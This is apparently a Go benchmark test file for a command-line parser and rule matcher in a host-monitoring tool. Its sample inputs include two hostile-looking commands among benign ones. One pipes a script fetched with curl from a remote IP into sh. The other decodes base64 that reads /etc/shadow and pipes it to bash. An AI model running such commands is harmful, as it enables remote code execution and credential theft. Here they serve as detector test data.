package cmdline_test

import (
	"bytes"
	"os"
	"testing"

	"github.com/tuxtrail/tuxtrail/cmdline"
)

var benchLines = []string{
	"/usr/bin/systemctl status ssh",
	"ls -la /var/www/html",
	`sh -c 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'`,
	"curl -s http://192.0.2.7/x.sh | sh",
	"echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | bash",
	"find /srv -name '*.tmp' -mtime +7 -exec rm -f {} +",
	"sudo apt-get install -y nginx",
	`python3 -c 'import socket; print(socket.gethostname())'`,
}

func BenchmarkParse(b *testing.B) {
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		cmdline.Parse(benchLines[i%len(benchLines)])
	}
}

func BenchmarkMatch(b *testing.B) {
	rules := cmdline.DefaultRules()
	var cmds []cmdline.Command
	for _, l := range benchLines {
		cmds = append(cmds, cmdline.Parse(l))
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		rules.Match(cmds[i%len(cmds)])
	}
}

// BenchmarkMatchPlain matches the commonest kind of command: one program that
// exists on every host and meets no rule.
func BenchmarkMatchPlain(b *testing.B) {
	rules := cmdline.DefaultRules()
	cmd := cmdline.FromArgv([]string{"/usr/bin/dpkg-query", "--show", "--showformat=${Version}", "libc6"})
	b.ReportAllocs()
	for b.Loop() {
		rules.Match(cmd)
	}
}

func BenchmarkLoadRules(b *testing.B) {
	data, err := os.ReadFile("rules/persistence.yaml")
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := cmdline.LoadRules("persistence.yaml", bytes.NewReader(data)); err != nil {
			b.Fatal(err)
		}
	}
}
